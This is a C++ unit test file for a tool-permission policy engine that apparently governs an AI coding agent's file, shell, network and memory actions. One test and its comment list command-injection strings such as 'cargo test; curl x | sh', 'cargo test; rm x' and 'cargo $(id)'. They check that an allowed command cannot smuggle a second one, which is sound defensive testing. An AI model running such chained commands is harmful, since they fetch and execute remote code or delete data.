#include "policy/decide.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <algorithm>

#include "policy/written_rule.h"

namespace hearth::policy {
namespace {

using ::testing::HasSubstr;

constexpr std::int64_t kNow = 1'700'000'000'000;

RuleText rule(std::string name, Decision decision, std::string pattern = "**",
              Origin origin = Origin::Configured) {
  return {.name = std::move(name),
          .pattern = std::move(pattern),
          .decision = decision,
          .origin = origin};
}
Action writes(std::string target = "src/a.cpp") {
  return {.tool = "write_file",
          .effect = Effect::Writes,
          .target = target,
          .full_target = "/home/ann/work/" + target,
          .place = Place::Workspace};
}
Action reads(std::string target = "src/a.cpp") {
  Action action = writes(std::move(target));
  action.tool = "read_file";
  action.effect = Effect::Reads;
  return action;
}
Action runs(std::string command) {
  return {.tool = "shell", .effect = Effect::Runs, .target = std::move(command)};
}
Action memory(std::string tool, Effect effect) {
  return {.tool = std::move(tool), .effect = effect, .target = "memory", .place = Place::Memory};
}
std::vector<Rule> made(std::vector<RuleText> texts) {
  std::vector<Rule> rules;
  for (RuleText& text : texts) rules.push_back(Rule::make(std::move(text)).value());
  return rules;
}

TEST(Decide, TheBuiltInRulesAreThese) {
  struct Case {
    Action action;
    Decision decision;
    const char* rule;
  };
  Action outside = reads();
  outside.place = Place::Elsewhere;
  Action written_outside = writes();
  written_outside.place = Place::Elsewhere;
  const Case kCases[] = {
      {reads(), Decision::Allow, "default-read"},
      {writes(), Decision::Ask, "default-write"},
      {outside, Decision::Deny, "no-rule"},
      {written_outside, Decision::Deny, "no-rule"},
      {memory("recall", Effect::Reads), Decision::Allow, "default-recall"},
      {memory("remember", Effect::Writes), Decision::Allow, "default-remember"},
      {memory("forget", Effect::Writes), Decision::Ask, "default-forget"},
      {runs("ls"), Decision::Ask, "default-run"},
      {{.tool = "fetch", .effect = Effect::Sends, .target = "example.org"},
       Decision::Ask,
       "default-send"},
  };
  for (const Case& c : kCases) {
    SCOPED_TRACE(c.rule);
    const Verdict verdict = decide({}, c.action, {.now_ms = kNow});
    EXPECT_EQ(verdict.decision, c.decision);
    EXPECT_EQ(verdict.rule, c.rule);
    EXPECT_EQ(verdict.may_be_learned, c.decision == Decision::Ask);
  }
}

TEST(Decide, TheStrictestWinsWhereverItStands) {
  struct Case {
    const char* name;
    std::vector<RuleText> rules;
    Decision decision;
    const char* rule;
  };
  const RuleText allow = rule("allow", Decision::Allow), ask = rule("ask", Decision::Ask),
                 deny = rule("deny", Decision::Deny),
                 learned = rule("learned", Decision::Allow, "src/*", Origin::Learned),
                 learned_deny = rule("never", Decision::Deny, "src/*", Origin::Learned);
  const Case kCases[] = {
      {"allowed by hearth.toml", {allow}, Decision::Allow, "allow"},
      {"deny before allow", {allow, deny}, Decision::Deny, "deny"},
      {"ask before allow", {allow, ask}, Decision::Ask, "ask"},
      {"deny before ask", {ask, deny, allow}, Decision::Deny, "deny"},
      {"learned answers a default", {learned}, Decision::Allow, "learned"},
      {"learned lifts no deny", {learned, deny}, Decision::Deny, "deny"},
      {"learned lifts no configured ask", {learned, ask}, Decision::Ask, "ask"},
      {"a learned deny holds too", {allow, learned_deny}, Decision::Deny, "never"},
      {"others are not spoken of",
       {rule("docs", Decision::Deny, "docs/**")},
       Decision::Ask,
       "default-write"},
      {"the full path is meant too",
       {rule("full", Decision::Deny, "/home/ann/**")},
       Decision::Deny,
       "full"},
  };
  for (const Case& c : kCases) {
    SCOPED_TRACE(c.name);
    std::vector<Rule> rules = made(c.rules);
    for (int way = 0; way < 2; ++way) {
      const Verdict verdict = decide(rules, writes(), {.now_ms = kNow});
      EXPECT_EQ(verdict.decision, c.decision);
      EXPECT_EQ(verdict.rule, c.rule);
      std::reverse(rules.begin(), rules.end());
    }
  }
}

TEST(Decide, OnlyWhatABuiltInRuleAsksMayBeLearned) {
  EXPECT_TRUE(decide({}, writes(), {}).may_be_learned);
  EXPECT_FALSE(decide(made({rule("ask", Decision::Ask)}), writes(), {}).may_be_learned);
}

TEST(Decide, PlanModeOnlyReads) {
  const std::vector<Rule> rules = made({rule("all", Decision::Allow)});
  const Moment plan{.now_ms = kNow, .plan_mode = true};
  EXPECT_EQ(decide(rules, reads(), plan).decision, Decision::Allow);
  EXPECT_EQ(decide({}, memory("recall", Effect::Reads), plan).decision, Decision::Allow);
  EXPECT_EQ(decide(made({rule("no", Decision::Deny)}), reads(), plan).decision, Decision::Deny);
  for (const Action& action : {writes(), runs("ls"), memory("remember", Effect::Writes)}) {
    EXPECT_EQ(decide(rules, action, plan).decision, Decision::Deny);
    EXPECT_EQ(decide(rules, action, plan).rule, "plan-mode");
  }
}

TEST(Decide, RulesHoldForATimeAndASession) {
  RuleText text = rule("here", Decision::Allow);
  text.expires_ms = kNow;
  text.session = "sess_a";
  const std::vector<Rule> rules = made({text});
  EXPECT_EQ(decide(rules, writes(), {kNow - 1, "sess_a"}).decision, Decision::Allow);
  EXPECT_EQ(decide(rules, writes(), {kNow, "sess_a"}).decision, Decision::Ask);
  EXPECT_EQ(decide(rules, writes(), {kNow - 1, "sess_b"}).decision, Decision::Ask);
}

TEST(Decide, ARuleNamesItsTool) {
  RuleText text = rule("w", Decision::Allow);
  text.tool = "edit_file";
  EXPECT_EQ(decide(made({text}), writes(), {}).decision, Decision::Ask);
  text.tool = "write_file";
  EXPECT_EQ(decide(made({text}), writes(), {}).decision, Decision::Allow);
}

// `cargo *` must not be an answer to `cargo test; curl x | sh`.
TEST(Decide, AnAllowedCommandIsOneCommand) {
  const std::vector<Rule> allow = made({rule("cargo", Decision::Allow, "cargo **")});
  EXPECT_EQ(decide(allow, runs("cargo test --all"), {}).decision, Decision::Allow);
  for (const char* command :
       {"cargo test; rm x", "cargo a && b", "cargo a|sh", "cargo `id`", "cargo $(id)",
        "cargo a > b", "cargo a < b", "cargo a\nrm x", "cargo $HOME", "cargo a & b"}) {
    SCOPED_TRACE(command);
    EXPECT_EQ(decide(allow, runs(command), {}).decision, Decision::Ask);
    const std::vector<Rule> deny = made({rule("no", Decision::Deny, "cargo **")});
    EXPECT_EQ(decide(deny, runs(command), {}).decision, Decision::Deny);
    RuleText exact = rule("exact", Decision::Allow, command);
    exact.kind = PatternKind::Exact;
    EXPECT_EQ(decide(made({exact}), runs(command), {}).decision, Decision::Allow);
    RuleText regex = rule("regex", Decision::Allow, "cargo .*");
    regex.kind = PatternKind::Regex;
    EXPECT_EQ(decide(made({regex}), runs(command), {}).decision, Decision::Ask);
  }
}

TEST(Rule, ARegexDescribesTheWholeTarget) {
  RuleText text = rule("r", Decision::Allow, "src/[a-c]\\.cpp");
  text.kind = PatternKind::Regex;
  const Rule one = Rule::make(text).value();
  EXPECT_TRUE(one.speaks_of(writes("src/a.cpp")));
  EXPECT_FALSE(one.speaks_of(writes("x/src/a.cpp")));
  EXPECT_FALSE(one.speaks_of(writes("src/a.cpp.sh")));
}

TEST(Rule, AnExactPatternHasNoWildcards) {
  RuleText text = rule("e", Decision::Allow, "src/*");
  text.kind = PatternKind::Exact;
  EXPECT_FALSE(Rule::make(text).value().speaks_of(writes("src/a.cpp")));
  EXPECT_TRUE(Rule::make(text).value().speaks_of(writes("src/*")));
}

TEST(ReadRule, NamesRuleAndField) {
  struct Case {
    const char* name;
    WrittenRule written;
    std::string says, field;
  };
  const std::string long_name(Rule::kNameBytesMax + 1, 'n');
  const Case kCases[] = {
      {"kind",
       {.name = "a", .kind = "glob", .decision = "ask"},
       "rule \"a\": kind: is not one of exact, wildcard, regex",
       "kind"},
      {"decision",
       {.name = "a", .decision = "maybe"},
       "decision: is not one of deny, ask, allow",
       "decision"},
      {"no decision", {.name = "a"}, "decision: is not one of", "decision"},
      {"regex",
       {.name = "a", .kind = "regex", .pattern = "x(", .decision = "ask"},
       "rule \"a\": pattern: is no regular expression",
       "pattern"},
      {"empty pattern",
       {.name = "a", .pattern = "", .decision = "ask"},
       "pattern: must not be empty",
       "pattern"},
      {"empty name", {.name = "", .decision = "ask"}, "name: must not be empty", "name"},
      {"long name",
       {.name = long_name, .decision = "ask"},
       "name: has 129 bytes; at most 128",
       "name"},
      {"long tool",
       {.name = "a", .tool = std::string(65, 't'), .decision = "ask"},
       "tool: has 65 bytes",
       "tool"},
      {"expires",
       {.name = "a", .decision = "ask", .expires = "soon"},
       "expires: not a duration",
       "expires"},
      {"expires late", {.name = "a", .decision = "ask", .expires = "25h"}, "above 24h", "expires"},
      {"long pattern",
       {.name = "a", .pattern = std::string(1'025, 'p'), .decision = "ask"},
       "at most 1024",
       "pattern"},
      {"long exact",
       {.name = "a", .kind = "exact", .pattern = std::string(4'097, 'p'), .decision = "ask"},
       "at most 4096",
       "pattern"},
  };
  for (const Case& c : kCases) {
    SCOPED_TRACE(c.name);
    const auto read = read_rule(c.written, kNow);
    ASSERT_FALSE(read.ok());
    EXPECT_EQ(read.error().code, Code::InvalidInput);
    EXPECT_EQ(read.error().field, c.field);
    EXPECT_THAT(read.error().message, HasSubstr(c.says));
  }
  const Rule fine =
      read_rule({.name = "a", .tool = "x", .decision = "deny", .expires = "30m"}, kNow).value();
  EXPECT_EQ(fine.text().expires_ms, kNow + 1'800'000);
  EXPECT_EQ(fine.text().decision, Decision::Deny);
}

}  // namespace
}  // namespace hearth::policy
